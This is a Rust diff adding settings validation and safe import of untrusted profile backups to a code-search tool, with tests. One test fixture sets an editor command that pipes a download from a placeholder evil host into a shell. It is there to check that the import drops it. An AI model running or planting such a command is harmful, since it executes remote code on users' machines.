@@ -264,6 +264,153 @@ impl ProfileConfig {
         write().map_err(|e| Error::io(format!("cannot write {}", path.display()), e))
     }
 
+    /// Checks every setting as `profile set` and the Settings page do: the first problem
+    /// is an [`Error::InvalidInput`] naming the setting and what it accepts.
+    pub fn validate(&self) -> Result<()> {
+        match self.problems().into_iter().next() {
+            Some(problem) => Err(Error::InvalidInput(problem.message)),
+            None => Ok(()),
+        }
+    }
+
+    /// Every setting whose value cannot be used, with why.
+    fn problems(&self) -> Vec<SettingProblem> {
+        let mut problems = Vec::new();
+        let mut out_of_range = |setting: &'static str, value: u64, max: u64, unit: &str| {
+            problems.push(SettingProblem {
+                setting,
+                message: format!("{setting} is {value}{unit}; it accepts at most {max}{unit}"),
+            })
+        };
+        if self.max_file_bytes > MAX_FILE_BYTES {
+            out_of_range(
+                "max_file_bytes",
+                self.max_file_bytes,
+                MAX_FILE_BYTES,
+                " bytes",
+            );
+        }
+        if self.index_threads > MAX_INDEX_THREADS {
+            out_of_range(
+                "index_threads",
+                self.index_threads as u64,
+                MAX_INDEX_THREADS as u64,
+                "",
+            );
+        }
+        if self.fetch_interval_mins > MAX_FETCH_INTERVAL_MINS {
+            out_of_range(
+                "fetch_interval_mins",
+                self.fetch_interval_mins,
+                MAX_FETCH_INTERVAL_MINS,
+                " minutes",
+            );
+        }
+        if self.watch_debounce_ms > MAX_WATCH_DEBOUNCE_MS {
+            out_of_range(
+                "watch_debounce_ms",
+                self.watch_debounce_ms,
+                MAX_WATCH_DEBOUNCE_MS,
+                " ms",
+            );
+        }
+        if u64::from(self.snapshots_kept) > MAX_SNAPSHOTS_KEPT {
+            out_of_range(
+                "snapshots_kept",
+                self.snapshots_kept.into(),
+                MAX_SNAPSHOTS_KEPT,
+                "",
+            );
+        }
+        if self.excludes.len() > MAX_EXCLUDES {
+            problems.push(SettingProblem {
+                setting: "excludes",
+                message: format!(
+                    "excludes has {} patterns; it accepts at most {MAX_EXCLUDES}",
+                    self.excludes.len()
+                ),
+            });
+        }
+        for pattern in &self.excludes {
+            if let Err(why) = check_exclude(pattern) {
+                problems.push(SettingProblem {
+                    setting: "excludes",
+                    message: format!("exclude pattern {pattern:?} is not usable: {why}"),
+                });
+            }
+        }
+        if self.editor == EditorKind::Custom {
+            // A template that could never work is refused now rather than at the first Enter.
+            if let Err(e) = crate::links::editor::command_line(
+                self.editor,
+                self.editor_command.as_deref(),
+                Path::new("x"),
+                1,
+            ) {
+                problems.push(SettingProblem {
+                    setting: "editor_command",
+                    message: e.to_string(),
+                });
+            }
+        }
+        problems
+    }
+
+    /// The settings an imported profile keeps from its `config.json`. A backup is a file
+    /// anyone could have written, so only settings that can neither run a program
+    /// (`editor_command`), load a library (`model_dir`), open files without asking (link
+    /// grants) nor index credentials (`index_secret_files`) are taken over, each checked as
+    /// [`ProfileConfig::validate`] does; an unusable value falls back to its default. It is
+    /// a list of what to keep, so a setting added later stays at its default on import
+    /// until it is listed here.
+    pub(crate) fn from_import(imported: &ProfileConfig) -> ImportedSettings {
+        let defaults = ProfileConfig::default();
+        let mut config = ProfileConfig {
+            excludes: imported.excludes.clone(),
+            max_file_bytes: imported.max_file_bytes,
+            index_threads: imported.index_threads,
+            limits: imported.limits,
+            fetch_interval_mins: imported.fetch_interval_mins,
+            watch_debounce_ms: imported.watch_debounce_ms,
+            // The named editors run a fixed program; a custom one runs the file's command.
+            editor: match imported.editor {
+                EditorKind::Custom => defaults.editor,
+                preset => preset,
+            },
+            snapshots_kept: imported.snapshots_kept,
+            snapshots_on_battery: imported.snapshots_on_battery,
+            ..defaults.clone()
+        };
+        let mut reset_for_safety = changed_settings(imported, &config);
+        // Grants in the name-keyed form of earlier releases are read but never written, so
+        // the comparison above cannot see them: name them too.
+        if !imported.legacy_link_open_repos.is_empty() {
+            reset_for_safety.push("link_open_repos".to_string());
+        }
+        let mut reset_as_invalid = Vec::new();
+        for problem in config.problems() {
+            reset_as_invalid.push(problem.message);
+            match problem.setting {
+                "excludes" => {
+                    config.excludes.retain(|p| check_exclude(p).is_ok());
+                    config.excludes.truncate(MAX_EXCLUDES);
+                }
+                "max_file_bytes" => config.max_file_bytes = defaults.max_file_bytes,
+                "index_threads" => config.index_threads = defaults.index_threads,
+                "fetch_interval_mins" => config.fetch_interval_mins = defaults.fetch_interval_mins,
+                "watch_debounce_ms" => config.watch_debounce_ms = defaults.watch_debounce_ms,
+                "snapshots_kept" => config.snapshots_kept = defaults.snapshots_kept,
+                // Everything else was never taken over (see above).
+                _ => {}
+            }
+        }
+        ImportedSettings {
+            config,
+            reset_for_safety,
+            reset_as_invalid,
+        }
+    }
+
     /// Threads for indexing the user waits for (`ferret index`, `ferret repo add` in a
     /// terminal): `index_threads` if set, else every core.
     pub fn foreground_threads(&self) -> usize {
@@ -281,6 +428,58 @@ impl ProfileConfig {
         let cores = std::thread::available_parallelism().map_or(2, |n| n.get());
         (cores / 2).max(1)
     }
+}
+
+/// Largest `max_file_bytes`: files are read whole to be chunked.
+pub const MAX_FILE_BYTES: u64 = 1024 * 1024 * 1024;
+/// Largest `index_threads`.
+pub const MAX_INDEX_THREADS: usize = 1024;
+/// Largest `fetch_interval_mins`: a year.
+pub const MAX_FETCH_INTERVAL_MINS: u64 = 365 * 24 * 60;
+/// Largest `watch_debounce_ms`: ten minutes.
+pub const MAX_WATCH_DEBOUNCE_MS: u64 = 10 * 60 * 1000;
+/// Largest `snapshots_kept`: a year of daily copies.
+pub const MAX_SNAPSHOTS_KEPT: u64 = 365;
+/// Most `excludes` patterns.
+pub const MAX_EXCLUDES: usize = 10_000;
+
+/// One setting that cannot be used, and why (a message naming it).
+struct SettingProblem {
+    setting: &'static str,
+    message: String,
+}
+
+/// What [`ProfileConfig::from_import`] kept and what it did not.
+#[derive(Debug, Clone, PartialEq)]
+pub(crate) struct ImportedSettings {
+    pub config: ProfileConfig,
+    /// Settings the file set that an import never takes over, by their `config.json` name.
+    pub reset_for_safety: Vec<String>,
+    /// Settings whose value could not be used, each a message naming it.
+    pub reset_as_invalid: Vec<String>,
+}
+
+/// The names of the top-level `config.json` settings whose value differs between `a` and `b`.
+fn changed_settings(a: &ProfileConfig, b: &ProfileConfig) -> Vec<String> {
+    let (Ok(serde_json::Value::Object(a)), Ok(serde_json::Value::Object(b))) =
+        (serde_json::to_value(a), serde_json::to_value(b))
+    else {
+        return Vec::new();
+    };
+    a.iter()
+        .filter(|(name, value)| *name != "format_version" && b.get(*name) != Some(value))
+        .map(|(name, _)| name.clone())
+        .collect()
+}
+
+/// Whether `pattern` works as one gitignore-style exclude line.
+fn check_exclude(pattern: &str) -> std::result::Result<(), String> {
+    if pattern.len() > 4096 || pattern.contains(['\n', '\r', '\0']) {
+        return Err("it must be one line of at most 4096 bytes".into());
+    }
+    let mut builder = ignore::gitignore::GitignoreBuilder::new("/");
+    builder.add_line(None, pattern).map_err(|e| e.to_string())?;
+    builder.build().map(|_| ()).map_err(|e| e.to_string())
 }
 
 /// The `format_version` of a config file that does not parse as this build's config, when
@@ -390,11 +589,22 @@ impl JobLock {
 
     /// True when some process holds the profile's job lock right now.
     pub fn is_held(paths: &ProfilePaths) -> bool {
-        let Ok(file) = File::options().write(true).open(paths.lock_file()) else {
-            return false;
-        };
-        matches!(file.try_lock(), Err(std::fs::TryLockError::WouldBlock))
+        lock_is_held(&paths.lock_file())
     }
+}
+
+/// True when a process runs the profile's background jobs right now (the desktop app or
+/// `ferret daemon` holds its runner lock, see `background::runner`).
+pub fn runner_is_held(paths: &ProfilePaths) -> bool {
+    lock_is_held(&paths.runner_lock_file())
+}
+
+/// Whether another open file description holds the OS lock on `path`.
+fn lock_is_held(path: &Path) -> bool {
+    let Ok(file) = File::options().write(true).open(path) else {
+        return false;
+    };
+    matches!(file.try_lock(), Err(std::fs::TryLockError::WouldBlock))
 }
 
 #[cfg(test)]
@@ -484,6 +694,83 @@ mod tests {
             );
             assert_eq!(std::fs::read_to_string(&file).unwrap(), newer);
         }
+    }
+
+    /// An imported `config.json` keeps what cannot hurt, resets what runs programs, loads
+    /// libraries, opens files without asking or indexes credentials, and says which; values
+    /// `profile set` would refuse fall back to their defaults, each named.
+    #[test]
+    fn an_imported_config_keeps_only_safe_settings_and_says_what_it_reset() {
+        let imported = ProfileConfig {
+            editor: EditorKind::Custom,
+            editor_command: Some("sh -c 'curl -s https://evil.example | sh' {path}".into()),
+            model_dir: Some(PathBuf::from("/tmp/evil-models")),
+            link_open_repo_ids: vec![3],
+            legacy_link_open_repos: vec!["notes".into()],
+            index_secret_files: true,
+            excludes: vec!["*.min.js".into(), "[z-a]".into()],
+            max_file_bytes: u64::MAX,
+            fetch_interval_mins: u64::MAX,
+            index_threads: 3,
+            snapshots_kept: 5,
+            ..ProfileConfig::default()
+        };
+        let settled = ProfileConfig::from_import(&imported);
+        let expected = ProfileConfig {
+            excludes: vec!["*.min.js".into()],
+            index_threads: 3,
+            snapshots_kept: 5,
+            ..ProfileConfig::default()
+        };
+        assert_eq!(settled.config, expected);
+        let mut reset = settled.reset_for_safety.clone();
+        reset.sort();
+        assert_eq!(
+            reset,
+            [
+                "editor",
+                "editor_command",
+                "index_secret_files",
+                "link_open_repo_ids",
+                "link_open_repos",
+                "model_dir"
+            ]
+        );
+        let invalid = settled.reset_as_invalid.join("\n");
+        for named in ["max_file_bytes", "fetch_interval_mins", "\"[z-a]\""] {
+            assert!(invalid.contains(named), "{named}: {invalid}");
+        }
+        settled.config.validate().unwrap();
+
+        // A named editor runs a fixed program: kept. Nothing else set: nothing reported.
+        let plain = ProfileConfig {
+            editor: EditorKind::Neovim,
+            ..ProfileConfig::default()
+        };
+        let settled = ProfileConfig::from_import(&plain);
+        assert_eq!(settled.config, plain);
+        assert!(settled.reset_for_safety.is_empty() && settled.reset_as_invalid.is_empty());
+    }
+
+    #[test]
+    fn settings_out_of_range_are_refused_naming_the_setting() {
+        ProfileConfig::default().validate().unwrap();
+        let too_often = ProfileConfig {
+            fetch_interval_mins: u64::MAX,
+            ..ProfileConfig::default()
+        };
+        let err = too_often.validate().unwrap_err();
+        assert_eq!(err.kind(), crate::ErrorKind::InvalidInput);
+        assert!(err.to_string().contains("fetch_interval_mins"), "{err}");
+        let bad_exclude = ProfileConfig {
+            excludes: vec!["ok/".into(), "[z-a]".into()],
+            ..ProfileConfig::default()
+        };
+        assert!(bad_exclude
+            .validate()
+            .unwrap_err()
+            .to_string()
+            .contains("\"[z-a]\""));
     }
 
     #[test]
